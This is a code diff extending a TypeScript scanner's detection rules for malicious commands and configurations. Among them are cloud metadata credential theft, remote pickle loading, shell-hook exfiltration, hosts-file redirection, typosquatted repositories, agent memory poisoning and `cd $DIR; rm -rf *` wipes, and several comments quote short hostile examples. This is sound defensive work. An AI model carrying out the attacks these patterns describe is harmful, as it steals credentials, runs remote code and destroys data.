@@ -119,7 +119,7 @@ function repoImitates(owner: string, repo: string, isAction: boolean): string | 
   return o ? `${o}/…` : undefined
 }
 
-const REPO_REF = /\buses:\s{0,3}["']?([\w.-]{1,39})\/([\w.-]{1,100})(?:\/[\w./-]{0,100}|)@|\b(?:github\.com|gitlab\.com)[/:]([\w.-]{1,39})\/([\w.-]{1,100})/g
+const REPO_REF = /\buses:\s{0,3}["']?([\w.-]{1,39})\/([\w.-]{1,100})(?:\/[\w./-]{0,100}|)@|(?:\b(?:github\.com|gitlab\.com)[/:]|\bgithub:)([\w.-]{1,39})\/([\w.-]{1,100})/g
 
 /** The look-alike repositories or actions a unit names, as "x looks like y". */
 function lookalikeRepos(unit: string): string | undefined {
@@ -182,6 +182,8 @@ function redirectsWellKnown(text: string): boolean {
     if (!publicIp(m[1]!)) continue
     if (m[2]!.trim().split(/\s{1,8}/).some((h) => WELL_KNOWN_HOST.test(h.replace(/\.$/, '')))) return true
   }
+  // Docker's `--add-host name:ip` and compose `extra_hosts: ["name:ip"]`.
+  for (const m of text.matchAll(/([\w.-]{1,100}):(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})\b/g)) if (publicIp(m[2]!) && WELL_KNOWN_HOST.test(m[1]!)) return true
   return false
 }
 
@@ -211,7 +213,7 @@ export const FAMILY_DOC_RULES: readonly DocRule[] = [
     units: ['command', 'decoded'],
     // PROMPT_COMMAND, zsh precmd/preexec, a DEBUG trap, a PowerShell prompt function: each runs before
     // every prompt or command. A network client inside one sends on every keystroke of work.
-    pattern: /\bPROMPT_COMMAND\s{0,2}\+?=|\b(?:precmd|preexec)_functions\s{0,2}\+?=|\b(?:precmd|preexec)\s{0,2}\(\s{0,2}\)\s{0,2}\{|\btrap\s{1,3}["'][^"'\n]{1,300}["']\s{1,3}DEBUG\b|\bfunction\s{1,3}(?:global:|)prompt\s{0,2}\{|\badd-zsh-hook\s{1,3}(?:precmd|preexec)\b/,
+    pattern: /\bPROMPT_COMMAND\s{0,2}\+?=|\b(?:precmd|preexec)_functions\s{0,2}\+?=|\b(?:precmd|preexec)\s{0,2}\(\s{0,2}\)\s{0,2}\{|\btrap\s{1,3}["'][^"'\n]{1,300}["']\s{1,3}DEBUG\b|\bfunction\s{1,3}(?:global:|)prompt\s{0,2}\{|\badd-zsh-hook\s{1,3}(?:precmd|preexec)\b|\bfunction\s{1,3}[\w-]{1,40}\s{1,3}--on-event\s{1,3}fish_(?:preexec|postexec|prompt)\b|\bPS[1-4]=[^\n]{0,200}(?:\$\(|\x60)/,
     requires: new RegExp(NET_CLIENT),
     reason: 'a shell hook that runs at every prompt (PROMPT_COMMAND, precmd, a DEBUG trap) calls a network client: each command typed, or its history, leaves the machine',
   },
@@ -235,7 +237,7 @@ export const FAMILY_DOC_RULES: readonly DocRule[] = [
     severity: 'high',
     units: ['command', 'decoded'],
     // `curl -o f && sh f` is `curl | sh` with a stop on the way: the same unread code runs.
-    pattern: /\b(?:curl|wget)\b[^\n;&|]{0,200}\s(?:-[a-zA-Z]{0,4}[oO]|--output|--output-document)[\s=]{1,3}["']?[\w./~${}-]{1,120}/,
+    pattern: /\b(?:curl|wget)\b[^\n;&|]{0,150}\s(?:-[a-zA-Z]{0,4}[oO]|--output|--output-document)[\s=]{1,3}["']?[\w./~${}-]{1,120}/,
     requires: /(?:&&|;|\|\|)\s{0,3}(?:sudo\s{1,3}(?:-[A-Za-z]\s{1,3}|)|)(?:(?:ba|z|da|k|)sh|source|\.|python3?|perl|ruby|node|chmod\s{1,3}\+?[x0-7]{1,4})\s{1,3}["']?[\w./~${}-]/,
     confirm: (m, unit) => {
       const file = /\s(?:-[a-zA-Z]{0,4}[oO]|--output|--output-document)[\s=]{1,3}["']?([\w./~${}-]{1,120})/.exec(m)?.[1]
@@ -258,10 +260,11 @@ export const FAMILY_DOC_RULES: readonly DocRule[] = [
     severity: 'high',
     units: ['block', 'decoded'],
     // Setting one (not --get, --unset): the value follows on the same line.
-    pattern: /\bgit\s{1,3}config\b[^\n]{0,60}[ \t]credential(?:\.[^\s=]{1,200}|)\.helper["']?[ \t]{1,3}["']?[^\s"'!-]/,
+    pattern: /\bgit\s{1,3}config\b[^\n]{0,60}[ \t]credential(?:\.[^\s=]{1,200}|)\.helper["']?[ \t]{1,3}["']?[^\s"'!-]|\[credential(?:[ \t]{1,3}"[^"\n]{1,200}"|)\][ \t]{0,3}\n[ \t]{0,8}helper[ \t]{0,3}=[ \t]{0,3}["']?[^\s"'!-]/,
     detail: (m, unit) => {
       if (/\s--(?:get|get-all|get-regexp|unset|unset-all|show-origin|list)\b/.test(m)) return undefined
-      const name = /credential(?:\.[^\s=]{1,200}|)\.helper["']?[ \t]{1,3}["']?([^\s"']{1,200})/.exec(m + unit.slice(unit.indexOf(m) + m.length, unit.indexOf(m) + m.length + 200))?.[1]
+      const tail = m + unit.slice(unit.indexOf(m) + m.length, unit.indexOf(m) + m.length + 200)
+      const name = (/credential(?:\.[^\s=]{1,200}|)\.helper["']?[ \t]{1,3}["']?([^\s"']{1,200})/.exec(tail) ?? /\n[ \t]{0,8}helper[ \t]{0,3}=[ \t]{0,3}["']?([^\s"']{1,200})/.exec(tail))?.[1]
       return name && !KNOWN_HELPERS.test(name) ? `helper "${name}"` : undefined
     },
     // The helper's program fetched from a host in the same block: that host's code gets every token.
@@ -299,7 +302,7 @@ export const FAMILY_DOC_RULES: readonly DocRule[] = [
     category: 'persistence',
     severity: 'critical',
     units: ['command', 'block', 'decoded'],
-    pattern: /(?:>>|>|\btee\b(?:\s{1,3}-a|))\s{0,3}["']?(?:\/private|)\/etc\/hosts\b|\\drivers\\etc\\hosts\b/i,
+    pattern: /(?:>>|>|\btee\b(?:\s{1,3}-a|))\s{0,3}["']?(?:\/private|)\/etc\/hosts\b|\\drivers\\etc\\hosts\b|--add-host[\s=]{1,3}["']?[\w.-]{1,100}:\d|\bextra_hosts\s{0,2}:/i,
     confirm: (_m, unit) => redirectsWellKnown(unit),
     reason: 'writes hosts-file entries that send a package registry, code host or sign-in host to a public address: every install and login then goes to whoever holds it',
   },
@@ -327,6 +330,34 @@ export const FAMILY_DOC_RULES: readonly DocRule[] = [
     // yaml.load with SafeLoader is safe; torch.load(weights_only=True) loads tensors only.
     confirm: (_m, unit) => !/SafeLoader|safe_load|weights_only\s{0,2}=\s{0,2}True/.test(unit),
     reason: 'deserialises (pickle, joblib, torch.load …) data fetched from the network: unpickling runs whatever code the server put in it',
+  },
+  {
+    id: 'exec-remote-deserialize-var',
+    category: 'execution',
+    severity: 'critical',
+    units: ['block', 'decoded'],
+    // `r = requests.get(url)` on one line, `pickle.loads(r.content)` on a later one: the same flow.
+    pattern: /\b(?:pickle|cPickle|_pickle|dill|cloudpickle|marshal|joblib|jsonpickle)\.(?:loads?|decode)\s{0,2}\(|\b(?:pd|pandas)\.read_pickle\s{0,2}\(|\btorch\.load\s{0,2}\(/,
+    requires: /\burlopen\s{0,2}\(|\brequests\.(?:get|post)\s{0,2}\(|\bhttpx\.(?:get|post)\s{0,2}\(|\.recv\s{0,2}\(/,
+    confirm: (_m, block) => {
+      if (/weights_only\s{0,2}=\s{0,2}True/.test(block)) return false
+      for (const a of block.matchAll(/^\s{0,16}([A-Za-z_]\w{0,40})\s{0,2}=\s{0,2}[^\n]{0,120}(?:\burlopen\s{0,2}\(|\brequests\.(?:get|post)\s{0,2}\(|\bhttpx\.(?:get|post)\s{0,2}\(|\.recv\s{0,2}\()/gm)) {
+        const v = a[1]!
+        if (new RegExp(`(?:pickle|cPickle|_pickle|dill|cloudpickle|marshal|joblib|jsonpickle)\\.(?:loads?|decode)\\s{0,2}\\(\\s{0,2}(?:io\\.BytesIO\\(\\s{0,2}|)${v}\\b|(?:read_pickle|torch\\.load)\\s{0,2}\\(\\s{0,2}(?:io\\.BytesIO\\(\\s{0,2}|)${v}\\b`).test(block.slice(a.index! + a[0].length))) return true
+      }
+      return false
+    },
+    reason: 'fetches bytes from the network into a variable and unpickles them on a later line: unpickling runs whatever code the server put in them',
+  },
+  {
+    id: 'obf-assembled-module-name',
+    category: 'obfuscation',
+    severity: 'high',
+    units: ['command', 'decoded'],
+    // `__import__('o' + 's')`, `require('child_' + 'process')`: a module name nobody needs to split.
+    pattern: /\b(?:__import__|import_module|require)\s{0,2}\(\s{0,2}["'][\w.]{0,20}["']\s{0,2}\+\s{0,2}["'][\w.]{0,20}["']|\bgetattr\s{0,2}\([^\n)]{0,80},\s{0,2}["'][\w]{0,20}["']\s{0,2}\+\s{0,2}["']/,
+    confirm: (m) => (/child_process|subprocess|\bos\b|system|popen|exec|spawn/.test(m.replace(/["']\s{0,2}\+\s{0,2}["']/g, '')) ? 'critical' : true),
+    reason: 'imports a module (or looks up a function) by a name split into pieces: written that way only so a reader or scanner does not see child_process, os or system',
   },
   // ───────────── a command put together from pieces ─────────────
   {
@@ -359,6 +390,24 @@ export const FAMILY_DOC_RULES: readonly DocRule[] = [
     // The upload goes to another host (the metadata service's own PUT for a token is not a send).
     confirm: (_m, unit) => hostsOf(unit).some((h) => publicHost(h)) || /\|[^|\n]{0,60}\bcurl\b[^\n]{0,200}[@<]-/.test(unit),
     reason: "reads the instance's cloud role credentials from the metadata service and sends them to another host: whoever receives them acts as the machine",
+  },
+  {
+    id: 'flow-cloud-metadata-creds-var',
+    category: 'exfiltration',
+    severity: 'critical',
+    flow: true,
+    units: ['block', 'decoded'],
+    pattern: /\/security-credentials\b|\/metadata\/identity\/oauth2\/token\b|computeMetadata\/v1\/instance\/service-accounts\b[^\n]{0,120}\/token\b|AWS_CONTAINER_CREDENTIALS_(?:RELATIVE|FULL)_URI\b/,
+    requires: new RegExp(UPLOAD, 'm'),
+    // `C=$(curl …/security-credentials/$ROLE)` and later `curl -d "$C" https://elsewhere`.
+    confirm: (_m, block) => {
+      for (const a of block.matchAll(/^\s{0,16}(?:export\s{1,3}|local\s{1,3}|)([A-Za-z_]\w{0,40})=[^\n]{0,200}(?:\/security-credentials\b|\/metadata\/identity\/oauth2\/token\b|computeMetadata\/v1\/instance\/service-accounts\b)/gm)) {
+        const v = a[1]!
+        for (const l of block.slice(a.index! + a[0].length).split('\n')) if (new RegExp(UPLOAD).test(l) && new RegExp(`\\$\\{?${v}\\b`).test(l) && hostsOf(l).some(publicHost)) return true
+      }
+      return false
+    },
+    reason: "reads the instance's cloud role credentials from the metadata service into a variable and sends that variable to another host",
   },
   {
     id: 'flow-cloud-key-minted-sent',
@@ -394,6 +443,17 @@ export const FAMILY_DOC_RULES: readonly DocRule[] = [
     confirm: (_m, unit) => (!unit.includes('\n') || /\bkind:\s{0,3}(?:Cluster|)RoleBinding\b/.test(unit)) && /--clusterrole[\s=]{1,3}["']?(?:cluster-admin|admin|edit)\b|\bname:\s{0,3}["']?(?:cluster-admin|admin|edit)\b|\broles\/(?:owner|editor|[\w.]{0,40}[Aa]dmin)\b|\ball(?:Authenticated|)Users:(?:admin|objectAdmin|legacyBucketOwner|legacyBucketWriter|objectCreator|O|W)\b/.test(unit),
     reason: 'grants administrator (or write) rights to anonymous or every signed-in user: anyone who can reach the cluster or bucket controls it',
   },
+  {
+    id: 'priv-public-principal-admin',
+    category: 'privilege-escalation',
+    severity: 'critical',
+    units: ['block', 'decoded'],
+    pattern: /"Principal"\s{0,3}:\s{0,3}(?:"\*"|\{\s{0,3}"AWS"\s{0,3}:\s{0,3}"\*"\s{0,3}\})/,
+    requires: /"Action"\s{0,3}:\s{0,3}(?:"(?:\*|iam:\*|s3:\*|sts:AssumeRole|kms:\*|secretsmanager:\*)"|\[\s{0,3}"(?:\*|iam:\*|s3:\*)")/,
+    // A condition (source VPC, org id, signed-in principal) narrows "anyone"; without one it is the world.
+    confirm: (_m, block) => /"Effect"\s{0,3}:\s{0,3}"Allow"/.test(block) && !/"Condition"\s{0,3}:/.test(block),
+    reason: 'a cloud policy that lets any principal at all ("Principal": "*") do everything (or assume the role, or read every secret), with no condition: the account is open to the world',
+  },
   // ───────────── agent memory and preferences written by a skill ─────────────
   {
     id: 'pi-memory-poison',
@@ -401,7 +461,7 @@ export const FAMILY_DOC_RULES: readonly DocRule[] = [
     severity: 'medium',
     units: ['sentence', 'comment', 'decoded', 'table-row'],
     pairs: true,
-    pattern: /\b(?:persistent|long-term|permanent|cross-session)\s{1,3}memory\b|\bmemory\s{1,3}(?:tool|file|store|bank)\b|\byour\s{1,3}memory\b|\bMEMORY\.md\b|\buser preferences?\b|长期记忆|持久记忆|记忆(?:文件|工具)|用户偏好/i,
+    pattern: /\b(?:persistent|long-term|permanent|cross-session)\s{1,3}memory\b|\bmemory\s{1,3}(?:tool|file|store|bank)\b|\byour\s{1,3}memory\b|\bMEMORY\.md\b|\buser preferences?\b|\b(?:CLAUDE|AGENTS|GEMINI)\.md\b|长期记忆|持久记忆|记忆(?:文件|工具)|用户偏好/i,
     requires: /\b(?:write|save|store|record|add|append|remember|insert|put|persist)\b|写入|保存|记住|记录|添加/i,
     // A skill that saves text to memory is listed; one that makes it pass for the user's words, or
     // drops the user's consent in it, poisons every later session.
@@ -414,7 +474,7 @@ export const FAMILY_DOC_RULES: readonly DocRule[] = [
     category: 'supply-chain',
     severity: 'high',
     units: ['command', 'decoded', 'sentence'],
-    pattern: /\buses:\s{0,3}["']?[\w.-]{1,39}\/[\w.-]{1,100}|\b(?:github\.com|gitlab\.com)[/:][\w.-]{1,39}\/[\w.-]{1,100}/,
+    pattern: /\buses:\s{0,3}["']?[\w.-]{1,39}\/[\w.-]{1,100}|\b(?:github\.com|gitlab\.com)[/:][\w.-]{1,39}\/[\w.-]{1,100}|\bgithub:[\w.-]{1,39}\/[\w.-]{1,100}/,
     detail: (_m, unit) => lookalikeRepos(unit),
     reason: 'uses a GitHub action or installs from a repository whose owner or name is one edit (or a digit for a letter) from a popular one: a typosquat runs its own code with your secrets',
   },
@@ -436,7 +496,7 @@ export const FAMILY_DOC_RULES: readonly DocRule[] = [
     units: ['block', 'decoded'],
     // A VS Code task run on folder open, an MCP server or agent hook command, a dev container hook:
     // each is run by the tool itself, without anyone typing it.
-    pattern: /"runOn"\s{0,3}:\s{0,3}"folderOpen"|"mcpServers"|"command"\s{0,3}:\s{0,3}"(?:ba|z|da|)sh"|"(?:postCreateCommand|postStartCommand|postAttachCommand|initializeCommand)"|"hooks"\s{0,3}:\s{0,3}\{/,
+    pattern: /"runOn"\s{0,3}:\s{0,3}"folderOpen"|"mcpServers"|"command"\s{0,3}:\s{0,3}"(?:ba|z|da|)sh"|"(?:postCreateCommand|postStartCommand|postAttachCommand|initializeCommand|SessionStart|UserPromptSubmit|PreToolUse|PostToolUse)"|"hooks"\s{0,3}:\s{0,3}\{/,
     requires: /\b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^\n]{0,200}\|\s{0,3}(?:sudo\s{1,3}|)(?:(?:ba|z|da|k|)sh|iex|Invoke-Expression)\b/,
     // The official installers (rustup, uv …) in a dev container are how those tools are installed.
     confirm: (_m, unit) => unit.split('\n').some((l) => /\b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^\n]{0,200}\|\s{0,3}(?:sudo\s{1,3}|)(?:(?:ba|z|da|k|)sh|iex|Invoke-Expression)\b/.test(l) && capOfficialInstaller('', l) !== 'low'),
@@ -471,7 +531,7 @@ export const FAMILY_DOC_RULES: readonly DocRule[] = [
     flow: true,
     units: ['sentence', 'comment', 'decoded', 'table-row', 'command'],
     pairs: true,
-    pattern: /\bcommit\s{1,3}messages?\b|\brelease\s{1,3}notes\b|\btag\s{1,3}messages?\b|提交(?:的|)(?:说明|信息|消息)|发布说明|\bgit\s{1,3}commit\b[^\n]{0,200}\s-m\b|\bgit\s{1,3}tag\b[^\n]{0,100}\s-m\b/i,
+    pattern: /\bcommit\s{1,3}messages?\b|\brelease\s{1,3}notes\b|\btag\s{1,3}messages?\b|\b(?:PR|pull request)\s{1,3}(?:description|body|title)\b|\bissue\s{1,3}(?:comment|body)\b|\bpublic\s{1,3}gist\b|\bCHANGELOG\b|提交(?:的|)(?:说明|信息|消息)|发布说明|(?:PR|合并请求)\s{0,2}描述|变更日志|\bgit\s{1,3}commit\b[^\n]{0,200}\s-m\b|\bgit\s{1,3}tag\b[^\n]{0,100}\s-m\b/i,
     requires: /_authToken\b|\$\{?[A-Z_]{0,30}(?:TOKEN|SECRET|PASSWORD|API_KEY|APIKEY)\b|\bgh\s{1,3}auth\s{1,3}token\b|\bnpm\s{1,3}config\s{1,3}get\b[^\n]{0,80}_auth|令牌|密钥/,
     // An order to put the value in (append, add, include …), not a warning to keep it out.
     confirm: (_m, unit) => /追加|加上|附上|写入|写上|填入|包含|\b(?:append|add|include|put|insert|write|paste)\b/i.test(unit) && !/\b(?:never|do not|don'?t|must not|avoid)\s{1,3}(?:\w{1,12}\s{1,2}){0,2}(?:append|add|include|put|insert|write|paste|commit)\b|(?:不要|切勿|禁止|不得|勿)(?:在|把|将|)[^，。]{0,12}(?:追加|加上|附上|写入|写上|填入|包含|提交)/i.test(unit),
@@ -494,6 +554,17 @@ export const FAMILY_DOC_RULES: readonly DocRule[] = [
       return new RegExp(`\\brm\\s{1,3}(?:-[a-zA-Z]{0,5}[rR][a-zA-Z]{0,5}|--recursive)\\s[^\\n;&|]{0,120}["']?\\$\\{?${name}(?::\\?[^}\\n]{0,60}|)\\}?["']?(?:/\\*|/\\.|/|\\s|$)`).test(after)
     },
     reason: 'a folder variable that falls back to the home or root folder (or to nothing) is then deleted recursively: the default wipes the home or the whole disk',
+  },
+  {
+    id: 'destr-cd-var-rm-star',
+    category: 'destructive',
+    severity: 'high',
+    units: ['command', 'decoded'],
+    // `cd $DIR; rm -rf *`: an empty DIR means `cd` goes home, a missing one leaves you where you were
+    // (with `;` the delete runs either way). `cd "$DIR" || exit` or `${DIR:?}` is the guarded form.
+    pattern: /\bcd[ \t]{1,2}["']?\$(?:\{[A-Za-z_]\w{0,30}\}|[A-Za-z_]\w{0,30})["']?[ \t]?(?:&&|;)[ \t]?(?:sudo[ \t]|)rm[ \t]-[a-zA-Z]{1,6}[ \t](?:--[ \t]|)(?:\*|\.\/\*|\.\[|\.\*)/,
+    confirm: (m) => (!/\srm[ \t]{1,3}-[a-zA-Z]{0,5}[rR]/.test(m) ? false : /;[ \t]{0,3}(?:sudo[ \t]{1,3}|)rm\b/.test(m) ? 'critical' : true),
+    reason: 'changes into a folder held in a variable and deletes everything there: an empty or missing variable makes it the home folder or wherever the shell already was',
   },
   // ───────────── a database dump sent off-site ─────────────
   {
